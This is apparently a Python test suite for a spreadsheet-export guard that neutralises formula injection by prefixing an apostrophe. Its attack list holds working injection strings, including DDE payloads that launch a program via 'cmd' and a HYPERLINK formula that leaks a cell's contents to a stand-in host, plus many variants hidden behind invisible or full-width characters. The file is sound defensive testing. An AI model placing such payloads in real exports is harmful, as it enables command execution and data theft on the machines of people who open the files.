import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cases.exports.guard import guarded, unguarded

# Kinds of attack, each in words of our own.
ATTACKS = [
    "=1+2",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://example.org/?leak="&A1,"open")',
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-5+cmd|'/c calc'!A1",
    "-2+3",
    "--5",
    "+-5",
    "-5;=1+1",
    "-5\n=1+1",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\ttab alone",
    "\r",
    "   =1+2",
    "\u00a0=1+2",
    "\u3000＝1+2",
    "\ufeff=1+2",
    "\u200b\u2060=1+2",
    "\x00=1+2",
    "\x1f@A1",
    "＝1+2",
    "＋1",
    "－1",
    "＠A1",
    "﹦1+2",
    "'=1+2",
    "''\u200b=1+2",
]
HARMLESS = [
    "",
    "a=b",
    "14 berths",
    "1-2",
    "'quoted'",
    "'",
    "   spaced",
    "\u200bhidden",
    "– a dash",
    "“=” is a sign",
    "#N/A",
    "مرحبا",
]
NUMBERS = ["-5", "+3.2", "-1,250", "-1.250,75", "+100%", "-0"]
any_text = st.text(st.characters(exclude_categories=["Cs"]))
openings = st.text(st.sampled_from("'=+-@＝＋－＠ \t\r\n\u200b\ufeff\u00a0.,%5"), max_size=6)


class TestGuard:
    @pytest.mark.parametrize("text", ATTACKS)
    def test_puts_an_apostrophe_before_a_formula(self, text):
        assert guarded(text) == f"'{text}"

    @pytest.mark.parametrize("text", HARMLESS)
    def test_leaves_other_texts_alone(self, text):
        assert guarded(text) == text

    @pytest.mark.parametrize("text", NUMBERS)
    def test_leaves_plain_numbers_alone(self, text):
        assert guarded(text) == text

    def test_sees_the_sign_behind_everything_that_does_not_show(self):
        unseen = {"Zs", "Zl", "Zp", "Cc", "Cf"}
        hidden = [chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) in unseen]

        missed = [letter for letter in hidden if guarded(f"{letter}=1") != f"'{letter}=1"]

        assert len(hidden) > 200
        assert missed == []

    def test_knows_every_letter_that_is_folded_into_a_sign_in_its_width(self):
        forms = [
            chr(code)
            for code in range(0x80, 0x110000)
            if unicodedata.decomposition(chr(code)).startswith(("<wide>", "<small>"))
            and unicodedata.normalize("NFKC", chr(code)) in set("=+-@")
        ]

        assert [form for form in forms if guarded(f"{form}1") != f"'{form}1"] == []
        assert len(forms) == 8

    @given(any_text | st.builds(str.__add__, openings, any_text))
    @example("'=1")
    @example("'-5")
    @example("'\t")
    def test_can_be_undone_for_any_text(self, text):
        assert unguarded(guarded(text)) == text

    @given(st.builds(str.__add__, openings, any_text))
    def test_leaves_no_cell_that_opens_with_a_sign(self, text):
        cell = guarded(text)

        shown = cell.lstrip(" \u200b\ufeff\u00a0")
        assert cell == text or cell == f"'{text}"
        assert not shown.startswith(tuple("=@＝＋－＠\t\r\n"))
        assert not shown.startswith(("+", "-")) or all(c in "+-0123456789.,%" for c in cell)
